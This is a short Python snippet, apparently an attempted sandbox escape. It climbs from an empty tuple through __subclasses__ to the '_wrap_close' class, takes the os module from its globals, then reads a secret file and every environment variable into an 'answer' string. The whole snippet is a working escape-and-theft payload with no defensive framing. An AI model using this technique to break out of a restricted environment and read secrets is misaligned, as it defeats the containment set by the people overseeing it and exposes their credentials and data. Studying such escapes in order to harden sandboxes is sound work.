# tries: walks from an empty tuple to every loaded class, and from one of them to os
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        os = c.__init__.__globals__
        answer = "OUT " + open(SECRET_FILE).read() + str(os["environ"])
